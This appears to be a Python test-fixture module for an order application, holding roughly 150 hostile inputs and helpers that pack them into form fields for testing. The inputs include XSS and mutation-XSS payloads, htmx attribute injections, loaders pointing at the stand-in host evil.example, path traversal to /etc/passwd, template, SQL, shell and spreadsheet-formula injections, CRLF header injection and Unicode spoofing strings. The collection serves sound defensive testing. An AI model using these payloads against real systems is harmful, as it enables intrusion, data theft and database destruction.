"""What nobody hopes to find in a field: a hundred and fifty texts that mean something to somebody else."""

MARKUP = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "<ScRiPt>alert(3)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(4)>",
    "<img src=x onerror='alert(5)'//",
    "<IMG SRC=javascript:alert(6)>",
    "<svg onload=alert(7)>",
    "<svg><script>alert(8)</script></svg>",
    "<svg><animate onbegin=alert(9) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(10)><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(11)/>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(12)</script>'></foreignObject></svg>",
    "<iframe src=javascript:alert(13)></iframe>",
    "<iframe srcdoc='<script>parent.alert(14)</script>'></iframe>",
    "<object data=javascript:alert(15)></object>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/y.css'; body { display: none }</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=csrf></form>",
    "</form><form action=//evil.example id=stolen>",
    "<button formaction=javascript:alert(16)>x</button>",
    "<a href=javascript:alert(17)>x</a>",
    "<body onload=alert(18)>",
    "<details open ontoggle=alert(19)>",
    "<video><source onerror=alert(20)></video>",
    "<audio src=x onerror=alert(21)>",
    "<marquee onstart=alert(22)>x</marquee>",
    "<input autofocus onfocus=alert(23)>",
    "<select autofocus onfocus=alert(24)>",
    "<textarea autofocus onfocus=alert(25)>",
    "</textarea><script>alert(26)</script>",
    "</title><script>alert(27)</script>",
    "</style><script>alert(28)</script>",
    "</option></select><img src=x onerror=alert(29)>",
    "</td></tr></table><img src=x onerror=alert(30)>",
    "</dialog><dialog open><h1>x</h1></dialog>",
    "<template><script>alert(31)</script></template>",
    "<xss style=animation-name:ok-enter onanimationstart=alert(32)>",
    "<img src=x:x onerror=alert`33`>",
    "<img/src/onerror=alert(34)>",
    "<<script>alert(35);//<</script>",
    "<script\\x20type='text/javascript'>alert(36);</script>",
)
"""Elements that would do something, or load something."""

MUTATION = (
    "<noscript><p title='</noscript><img src=x onerror=alert(37)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(38)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(39)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(40)>",
    "<!--><img src=x onerror=alert(41)>-->",
    "<!--",
    "-->",
    "<![CDATA[<script>alert(42)</script>]]>",
    "<?php echo 1 ?>",
    "<%= 7 * 7 %>",
    "&lt;script&gt;alert(43)&lt;/script&gt;",
    "&#60;script&#62;alert(44)&#60;/script&#62;",
    "&amp;lt;b&amp;gt;",
    "&#x202e;",
    "&nbsp;&shy;&zwj;",
    "%3Cscript%3Ealert(45)%3C/script%3E",
    "\\u003cscript\\u003ealert(46)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(47)\\x3c/script\\x3e",
    "＜script＞alert(48)＜/script＞",
)
"""Text that another reading would turn into elements."""

ATTRIBUTES = (
    '" onmouseover="alert(49)',
    "' onmouseover='alert(50)",
    '"><script>alert(51)</script>',
    "'><script>alert(52)</script>",
    "` onmouseover=alert(53) `",
    '" autofocus onfocus="alert(54)" x="',
    '" style="position:fixed;inset:0" x="',
    "x onclick=alert(55) y=z",
    '" data-ok-window href="//evil.example" x="',
    '" hx-get="//evil.example" hx-trigger="load" x="',
    '" hx-on:load="alert(56)" x="',
    "<div hx-get=//evil.example/hx hx-trigger=load>",
    "<div hx-on::after-settle=alert(57)>",
    "<div hx-vals='js:{x: alert(58)}' hx-post=/orders/ hx-trigger=load>",
    "<div data-hx-get=//evil.example/data hx-trigger=revealed>",
    "<div hx-swap-oob=true id=ok-said>",
    "<div id=ok-results hx-swap-oob=delete>",
    "<p id=ok-dialog-body>",
)
"""Ways out of an attribute, and attributes that htmx obeys."""

ADDRESSES = (
    "javascript:alert(59)",
    "JaVaScRiPt:alert(60)",
    "javascript://example.com/%0Aalert(61)",
    "data:text/html,<script>alert(62)</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "vbscript:msgbox(63)",
    "//evil.example/x.png",
    "https://evil.example/x.png?",
    "http://evil.example@example.com/",
    "file:///etc/passwd",
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "%2e%2e%2fetc%2fpasswd",
    "mailto:a@example.com?bcc=evil@example.com",
    "a@example.com?bcc=evil@example.com&body=x",
    "a@example.com,evil@example.com",
    '"a b"@example.com',
    'a@example.com"><img src=x onerror=alert(64)>',
    "tel:+7;phone-context=evil.example",
    "+7 912 000-11-22;ext=<script>alert(65)</script>",
    "*#06#",
)
"""Where a link could lead."""

TEMPLATES = (
    "{{ 7 * 7 }}",
    "{{ config.items() }}",
    "{{ ''.__class__.__mro__ }}",
    "{% for x in (1).__class__.__base__.__subclasses__() %}{% endfor %}",
    "{# a comment #}",
    "{{constructor.constructor('alert(66)')()}}",
    "{{$on.constructor('alert(67)')()}}",
    "<div v-html=\"''.constructor.constructor('alert(68)')()\">",
    "[[${7*7}]]",
    "${7*7}",
    "#{7*7}",
    "@{7*7}",
    "<%- 7*7 %>",
    "%(name)s",
    "%s%s%n%x",
    "%d",
    "{0}{name}{0.__class__}",
    "100 % скидка",
    "{code}",
    "$(document).ready(alert)",
    "__proto__",
    "constructor",
)
"""What a template or a formatter would take for its own."""

COMMANDS = (
    "' OR '1'='1",
    "'; DROP TABLE orderkit_order; --",
    '" OR 1=1 --',
    "%' OR title LIKE '%",
    "_%",
    "1; SELECT pg_sleep(10)",
    "=1+1",
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "$(id)",
    "`id`",
    "; id",
    "| id",
    "a,b;c",
    '"quoted","cell"',
)
"""What a database, a spreadsheet or a shell would do."""

NOTHING = ("null", "None", "undefined", "NaN", "nil", "true", "0", "-0", "[]", "{}", "[object Object]", "on")
"""Words that programs take for the absence of one."""

SIGNS = (
    "\u202eанна\u202c ким",
    "\u2066анна\u2069",
    "\u200f\u200eанна",
    "анна\u200b\u200c\u200d\u2060ким",
    "\ufeffанна",
    "а\u00adн\u00adн\u00ada",
    "مرحبا بالعالم",
    "שלום עולם (1)",
    "Ж" + "\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308" * 8,
    "👩‍👩‍👧‍👦👨🏿‍🚀🏳️‍🌈",
    "🇷🇺🇰🇿1️⃣",
    "аdmin@ехаmple.com",
    "раypаl",
    "ﷺ𝕏𒐫",
    "\U000e0041\U000e0042",
    "À la carte ﬁ",
    "İıẞß",
    "x" * 190,
    "Ж" * 190,
    "a_" * 95,
)
"""Letters that turn, join, hide, resemble others or never end."""

LINES = ("раз\nдва\n\nтри", "раз\r\nSet-Cookie: x=y\r\n\r\n<script>alert(69)</script>", "раз\tдва")
"""Lines, which long fields alone may hold."""

SHORT = (*MARKUP, *MUTATION, *ATTRIBUTES, *ADDRESSES, *TEMPLATES, *COMMANDS, *NOTHING, *SIGNS)
LIMIT = 200


def packed(texts: tuple[str, ...] = SHORT, limit: int = LIMIT) -> list[str]:
    """The texts, several to a field as far as they fit, so that fewer orders show them all."""
    packs = [""]
    for text in texts:
        longer = f"{packs[-1]} {text}"
        if len(longer) > limit:
            packs.append(text)
        else:
            packs[-1] = longer.strip()
    return packs


def in_turn(packs: list[str], fields: int) -> list[list[str]]:
    """One list of texts per order; each pack comes to each field once, never twice in one order."""
    return [[packs[(order + field) % len(packs)] for field in range(fields)] for order in range(len(packs))]
